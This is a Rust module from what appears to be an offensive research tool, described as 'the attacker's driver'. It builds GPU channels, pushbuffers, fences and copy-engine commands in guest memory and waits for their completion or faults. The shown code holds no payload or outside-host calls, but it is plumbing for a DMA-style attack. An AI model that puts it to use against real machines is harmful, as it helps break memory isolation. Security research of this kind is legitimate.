//! Channels of the attacker's driver: an instance block, a ring, pushbuffers and a fence, all in guest
//! memory.

use std::time::{Duration, Instant};

use anyhow::Result;

use super::driver::{GP_GET, GP_PUT, Gpu};
use super::regs::*;
use super::space::Space;
use crate::attack::place;
use crate::attack::tool::{End, Target};
use crate::dma_memory::Piece;
use crate::push::{Commands, Subchannel, split};

/// Entries of a ring, as log2.
const RING_LOG2: u32 = 6;
const RING: u32 = 1 << RING_LOG2;
/// Bytes of a slot's pushbuffer.
const PUSH: usize = 0x400;
/// A channel's memory: ring, pushbuffers, fence, context image.
const PUSHES: u64 = 0x1000;
const FENCE: u64 = PUSHES + (PUSH as u64 * RING as u64);
const CONTEXT: u64 = FENCE + 0x1000;
const BYTES: usize = 0x2_0000;

/// An engine that copies.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Engine {
    /// Class 9039, on the graphics engine.
    Graphics,
    /// Copy engine 0 or 1.
    Copy(u8),
}

impl Engine {
    /// Class, and number of the engine, as SET_OBJECT wants them.
    fn object(self) -> u32 {
        match self {
            Self::Graphics => 0x9039,
            Self::Copy(0) => 0x90b5 | 4 << 16,
            Self::Copy(_) => 0x90b8 | 5 << 16,
        }
    }

    /// Where the instance block points at the engine's context.
    fn context_pointer(self) -> usize {
        match self {
            Self::Graphics => 0x210,
            Self::Copy(0) => 0x230,
            Self::Copy(_) => 0x240,
        }
    }

    /// The words that copy lines: both sides linear with these pitches.
    pub fn copy(self, to: u64, from: u64, pitch: u32, lines: [u32; 2]) -> Commands {
        let mut commands = Commands::new();
        let ([to_high, to_low], [from_high, from_low], [length, count]) = (split(to), split(from), lines);
        match self {
            Self::Graphics => {
                commands.methods(OBJECT, 0x238, &[to_high, to_low]);
                commands.methods(OBJECT, 0x30c, &[from_high, from_low, pitch, pitch, length, count]);
                commands.methods(OBJECT, 0x300, &[0x110]);
            }
            Self::Copy(_) => {
                let data = [from_high, from_low, to_high, to_low, pitch, pitch, length, count];
                commands.methods(OBJECT, 0x30c, &data);
                commands.methods(OBJECT, 0x300, &[0x110]);
            }
        }
        commands
    }
}

/// The subchannel of a channel's engine.
pub const OBJECT: Subchannel = Subchannel(0);

/// A channel.
#[derive(Debug, Clone)]
pub struct Channel {
    pub id: u16,
    pub engine: Engine,
    pub block: Piece,
    pub memory: Piece,
    pub va: u64,
    put: u32,
    fence: u32,
}

impl Channel {
    /// Another channel with the same memory.
    pub fn twin(&self, id: u16, block: Piece) -> Self {
        Self { id, block, put: 0, ..self.clone() }
    }

    /// Its ring begins anew: the GPU has forgotten how far it was.
    pub fn rewind(&mut self) {
        self.put = 0;
    }
}

impl Gpu<'_> {
    /// A channel that is bound, started and listed.
    pub fn channel(&mut self, space: &mut Space, id: u16, engine: Engine) -> Result<Channel> {
        let channel = self.unbound_channel(space, id, engine)?;
        self.install(&channel)?;
        Ok(channel)
    }

    /// A channel whose memory is ready and mapped, but of which the GPU knows nothing.
    pub fn unbound_channel(&mut self, space: &mut Space, id: u16, engine: Engine) -> Result<Channel> {
        let va = 0x1000_0000 + u64::from(id) * 0x10_0000;
        let memory = self.memory.take(BYTES, 0x1000)?;
        space.map(self.memory, va, Target::Memory(memory.physical), BYTES as u64)?;
        self.flush(space);
        let block = self.memory.take(0x1000, 0x1000)?;
        let channel = Channel { id, engine, block, memory, va, put: 0, fence: 0 };
        self.write_block(&channel, space);
        Ok(channel)
    }

    /// Fills a channel's instance block in.
    pub fn write_block(&self, channel: &Channel, space: &Space) {
        let userd = self.userd(channel.id);
        let ([va_high, va_low], [userd_high, userd_low]) = (split(channel.va), split(userd));
        let words = [
            (0x08, userd_low),
            (0x0c, userd_high),
            (0x10, 0xface),
            (0x30, 0xffff_f902),
            (0x48, va_low),
            (0x4c, va_high | RING_LOG2 << 16),
            (0x54, 2),
            (0x84, 0x2040_0000),
            (0x94, 0x3000_0fff),
            (0x9c, 0x100),
            (0xa4, 0x1f1f_1f1f),
            (0xa8, 0x1f1f_1f1f),
            (0xac, 0x1f),
            (0xb8, 0xf800_0000),
            (0xf8, 0x1000_3080),
            (0xfc, 0x1000_0010),
        ];
        words.into_iter().for_each(|(offset, word)| self.memory.store32(channel.block, offset, word));
        space.write_into(self.memory, channel.block);
        let context = (channel.va + CONTEXT) | 4;
        self.memory.store64(channel.block, channel.engine.context_pointer(), context);
        for offset in [GP_GET, GP_PUT] {
            self.set_userd(channel.id, offset, 0);
        }
    }

    /// Binds, starts and lists a channel.
    pub fn install(&mut self, channel: &Channel) -> Result<()> {
        self.bind(channel.id, Target::Memory(channel.block.physical));
        self.start(channel.id);
        self.runlist.retain(|id| *id != channel.id);
        self.runlist.push(channel.id);
        self.commit()
    }

    /// Takes a channel off the runlist, and its number back.
    pub fn remove(&mut self, id: u16) -> Result<()> {
        self.stop(id);
        self.preempt(id)?;
        self.runlist.retain(|other| *other != id);
        self.commit()?;
        self.unbind(id);
        Ok(())
    }

    /// The same channel anew, after it was stopped.
    pub fn revive(&mut self, channel: &mut Channel, space: &Space) -> Result<()> {
        self.acknowledge();
        self.remove(channel.id)?;
        channel.rewind();
        self.write_block(channel, space);
        self.install(channel)
    }

    /// Writes commands into the next pushbuffer and its entry into the ring, and rings.
    pub fn submit(&self, channel: &mut Channel, commands: &Commands) {
        let bytes = commands.to_bytes();
        let push = place(PUSHES) + channel.put as usize * PUSH;
        let (words, _) = bytes.as_chunks::<4>();
        for (index, word) in words.iter().take(PUSH / 4).enumerate() {
            self.memory.store32(channel.memory, push + index * 4, u32::from_le_bytes(*word));
        }
        let va = channel.va + push as u64;
        self.submit_entry(channel, va | (words.len() as u64) << 42);
    }

    /// Writes an entry into the ring as it is, and rings.
    pub fn submit_entry(&self, channel: &mut Channel, entry: u64) {
        self.memory.store64(channel.memory, channel.put as usize * 8, entry);
        channel.put = (channel.put + 1) % RING;
        self.ring(channel.id, channel.put);
    }

    /// Commands that bind the channel's engine, followed by `work` and a fence.
    pub fn fenced(&self, channel: &mut Channel, work: &Commands) -> Commands {
        channel.fence += 1;
        let [high, low] = split(channel.va + FENCE);
        let mut commands = Commands::new();
        commands.methods(OBJECT, 0, &[channel.engine.object()]);
        commands.extend(work);
        commands.methods(OBJECT, 0x78, &[0]);
        commands.methods(OBJECT, 0x10, &[high, low, channel.fence, 2 | 1 << 24]);
        commands.methods(OBJECT, 0x20, &[0]);
        commands
    }

    /// Whether everything submitted is done.
    pub fn is_done(&self, channel: &Channel) -> bool {
        self.memory.load32(channel.memory, place(FENCE)) == channel.fence
    }

    /// Does `work` and waits for its end.
    pub fn run(&self, channel: &mut Channel, work: &Commands, limit: Duration) -> End {
        let commands = self.fenced(channel, work);
        self.submit(channel, &commands);
        self.end(channel, limit)
    }

    /// Waits for the end of what was submitted.
    pub fn end(&self, channel: &Channel, limit: Duration) -> End {
        let start = Instant::now();
        loop {
            if self.is_done(channel) {
                return End::Done;
            }
            let pending = self.card.reg(PFIFO_INTR);
            if pending == u32::MAX && self.is_lost() {
                return End::Lost;
            }
            if pending & INTR_FAULT != 0 {
                let unit = self.card.reg(PFIFO_FAULT_ID).trailing_zeros().min(31);
                let [low, high] = [4, 8].map(|at| self.card.reg(PFIFO_FAULT + unit * 16 + at));
                return End::Fault(u64::from(high) << 32 | u64::from(low));
            }
            if pending & INTR_PBDMA != 0 {
                return End::Error;
            }
            if self.card.reg(PGRAPH_INTR) != 0 {
                return End::Error;
            }
            if start.elapsed() > limit {
                return End::Silent;
            }
            std::thread::sleep(Duration::from_micros(200));
        }
    }
}
